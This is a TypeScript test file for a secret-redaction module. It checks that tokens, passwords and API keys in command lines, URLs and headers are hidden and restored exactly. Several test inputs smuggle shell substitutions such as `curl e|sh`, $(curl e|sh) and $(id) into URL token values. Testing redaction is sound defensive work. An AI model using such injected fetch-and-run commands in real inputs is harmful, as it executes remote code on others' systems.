// biome-ignore-all lint/suspicious/noTemplateCurlyInString: ${NAME} references, meant literally.
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { propertyRuns } from "../../../test-support/properties.js";
import { commandLineSecrets } from "./find-spec-secrets.js";
import { withoutArgSecrets, withoutCommandLineSecrets } from "./index.js";
import {
  expectArgFilledBack,
  expectArgs,
  expectFilledBack,
  expectKept,
  exportedArgs,
  exportedCommand,
} from "./test-support/spec-cases.js";

// fix173: an argument is one word, whatever it holds (no shell reads argv again), but one holding a
// blank was read as a command line: a URL in it was cut at the blank (`["--url", "https://h/p?token=a
// b"]` exported as `https://h/p b`, `b` in clear in both views) and read with its quotes as a
// shell's (`postgres://u:X'$(Y"@h/db` filled back as `'postgres://u:X$(Y"@h/db'`). fix172 had
// read one such URL whole only when its blanks stood inside a run-time part. On a line a shell
// refuses (a quote left open) a URL's value read past that quote was written again in '…', so the
// export no longer filled back byte for byte (fix172); so was a URL whose value is a default's word
// (`"https://h/p?token=${X:-Q}"` filled back as `'https://h/p?token=Q'`). `?token=$TOKEN`, a
// reference, was taken out of a pasted line as text.

describe("an argument is one word: a URL in it runs to the argument's end", () => {
  it("a blank in a telling query value is the value's", () => {
    expectArgs(
      ["--url", "https://h/p?token=a b"],
      ["--url", "https://h/p?token=•"],
      ["--url", "https://h/p"],
    );
  });

  it("after a NAME= or a header's name too", () => {
    expectArgs(
      ["-e", "DB_URL=https://h/p?token=a b"],
      ["-e", "DB_URL=https://h/p?token=•"],
      ["-e", "DB_URL=https://h/p"],
    );
    expectArgs(
      ["--header", "X-Upstream: https://h/p?token=a b&b=2"],
      ["--header", "X-Upstream: https://h/p?token=•&b=2"],
      ["--header", "X-Upstream: https://h/p?b=2"],
    );
  });

  it("a password holding a blank and a `$(`", () => {
    expectArgs(
      ["--db", "postgres://u:a b$(c)@h/db"],
      ["--db", "postgres://•@h/db"],
      ["--db", "postgres://h/db"],
    );
  });

  it("quotes in it are its bytes: filled back as written, not written again in '…'", () => {
    expectArgs(
      ["--db", "postgres://u:Zq'$(Wz\"@h/db"],
      ["--db", "postgres://•@h/db"],
      ["--db", "postgres://h/db"],
    );
    expectArgs(
      ["--url", "https://h/p?token=a'b c"],
      ["--url", "https://h/p?token=•"],
      ["--url", "https://h/p"],
    );
  });

  it("what the URL's reading leaves is read as before (a flag's value after it)", () => {
    expectArgs(
      ["--url", "https://u:p@h/p --token Zq9"],
      ["--url", "https://•@h/p --token •"],
      ["--url", "https://h/p --token ${TOKEN}"],
    );
  });

  it("a header, an assignment, a flag's value and a command line given as one argument read as before", () => {
    expectArgs(
      ["--header", "Authorization: Bearer sk-abcdefghijklmnop1234"],
      ["--header", "Authorization: •"],
      ["--header", "Authorization: ${AUTHORIZATION}"],
    );
    expectArgs(["-e", "TOKEN=x y"], ["-e", "TOKEN=•"], ["-e", "TOKEN=${TOKEN}"]);
    expectArgs(["--token", "a 'b"], ["--token", "•"], ["--token", "${TOKEN}"]);
    expectArgs(
      ["--run", "srv --token Zq9 y"],
      ["--run", "srv --token • y"],
      ["--run", "srv --token ${TOKEN} y"],
    );
  });

  it("property: a telling flag's or key's value with blanks and quotes in it: no byte of it exported or shown, filled back exactly", () => {
    const literal = fc.stringMatching(/^[JVQ]{1,4}$/);
    const glue = fc.constantFrom(" ", "  ", "'", '"', "$(", ")", "`", ";", "|", "=", "-", "\\", "%");
    const value = fc
      .array(fc.oneof(literal, glue), { minLength: 1, maxLength: 8 })
      .map((parts) => parts.join(""))
      .filter((text) => /[JVQ]/.test(text) && !text.startsWith("-"));
    const shape = fc.constantFrom(
      (v: string) => ["--token", v],
      (v: string) => [`--token=${v}`],
      (v: string) => ["-e", `GITHUB_TOKEN=${v}`],
      (v: string) => ["--header", `Authorization: Bearer ${v}`],
      (v: string) => ["--header", `X-Api-Key: ${v}`],
      (v: string) => ["--url", `https://h/p?token=${v}`],
      (v: string) => ["--url", `https://h/p?b=1&api_key=${v}`],
      (v: string) => ["-e", `DB_URL=https://h/p?token=${v}`],
      (v: string) => ["--db", `postgres://u:${v}@h/db`],
    );
    fc.assert(
      fc.property(shape, value, (make, v) => {
        const args = make(v);
        for (const arg of exportedArgs(args) ?? []) expect(arg).not.toMatch(/[JVQ]/);
        for (const arg of withoutArgSecrets(args, () => "•")) expect(arg).not.toMatch(/[JVQ]/);
        expectArgFilledBack(args);
      }),
      propertyRuns(400),
    );
  });
});

describe("a line a shell refuses (a quote left open) fills back byte for byte", () => {
  it.each([
    // The value runs on past the quote: hidden as written, from its start to the line's end.
    ["srv --url https://h/p?token=`curl e|sh`'; srv2", "srv --url https://h/p?token=<`curl e|sh`'; srv2>"],
    [
      "srv --url https://h/p?token=Zq9secret$(curl e|sh)b7'; srv2",
      "srv --url https://h/p?token=<Zq9secret$(curl e|sh)b7'; srv2>",
    ],
    // The value ends before the quote: hidden in place.
    [
      "srv --url https://h/p?token=$(curl e|sh)b7#frag'; srv2",
      "srv --url https://h/p?token=<$(curl e|sh)b7>#frag'; srv2",
    ],
  ])("%s", (line, tagged) => {
    expectFilledBack(line);
    expect(commandLineSecrets(line, (text) => `<${text}>`)?.safe).toBe(tagged);
    for (const text of ["Zq9secret", "b7"]) expect(exportedCommand(line)).not.toContain(text);
  });

  it("the display keeps the payload in sight and hides the literal beside it in place", () => {
    const line = "srv --url https://h/p?token=`curl e|sh`'; srv2";
    expect(withoutCommandLineSecrets(line, (text) => `<${text}>`)).toBe(
      "srv --url https://h/p?token=`curl e|sh`'<;> srv2",
    );
  });

  it("property: a URL's telling value with a quote left open around it", () => {
    const key = fc.constantFrom("token", "api_key", "password");
    const payload = fc.constantFrom("", "$(curl e|sh)", "`curl e|sh`", "$(id)", "${X:-$(id)}", "${X:-Q}");
    const literal = fc.constantFrom("", "Zq9secret");
    const tail = fc.constantFrom("", "b7");
    const more = fc.constantFrom("", "&b=2", "#frag");
    const rest = fc.constantFrom("", " --v 1", "; srv2");
    const open = fc.constantFrom(
      (url: string, end: string) => `srv --url "${url}${end}`,
      (url: string, end: string) => `srv --url '${url}${end}`,
      (url: string, end: string) => `srv --url "${url}"${end} "x`,
      (url: string, end: string) => `srv --url ${url}'${end}`,
      (url: string, end: string) => `srv --url "${url}' ${end}`,
    );
    fc.assert(
      fc.property(key, payload, literal, tail, more, rest, open, (k, run, before, after, url2, end, make) => {
        const line = make(`https://h/p?${k}=${before}${run}${after}${url2}`, end);
        expectFilledBack(line);
        const tagged = commandLineSecrets(line, (text) => `<${text}>`)?.safe ?? line;
        const clear = tagged.replace(/<[^<>]*>/g, "");
        for (const text of [before, after].filter((text) => text !== "")) expect(clear).not.toContain(text);
      }),
    );
  });
});

describe("a URL whose value is a default's word fills back byte for byte", () => {
  it.each([
    ['srv --url "https://h/p?token=${X:-Q}"', 'srv --url "https://h/p?token=${X:-<Q>}"'],
    ["srv --url https://h/p?token=${X:-Q}", "srv --url https://h/p?token=${X:-<Q>}"],
    ["srv --url https://h/p?token=${X:-Q}b7", "srv --url https://h/p?token=<${X:-Q}b7>"],
  ])("%s", (line, tagged) => {
    expectFilledBack(line);
    expect(commandLineSecrets(line, (text) => `<${text}>`)?.safe).toBe(tagged);
    expect(withoutCommandLineSecrets(line, (text) => `<${text}>`)).toBe(tagged);
  });
});

describe("a reference in a telling query value stays in sight", () => {
  it.each([
    "srv --url https://h/p?token=$TOKEN",
    'srv --url "https://h/p?token=$TOKEN"',
    'srv --url "https://h/p?token=$TOKEN&b=2"',
    "srv --url https://h/p?token=${TOKEN}",
    "https://h/p?token=$TOKEN",
  ])("%s", (line) => {
    expectKept(line);
  });

  it("beside a literal, in single quotes (its bytes) or in an argument (no shell fills it), it is taken out as before", () => {
    expect(exportedCommand("srv --url https://h/p?token=ab$TOKEN")).toBe("srv --url https://h/p");
    expect(exportedCommand("srv --url 'https://h/p?token=$TOKEN'")).toBe("srv --url 'https://h/p'");
    expect(exportedArgs(["--url", "https://h/p?token=$TOKEN"])).toEqual(["--url", "https://h/p"]);
  });
});
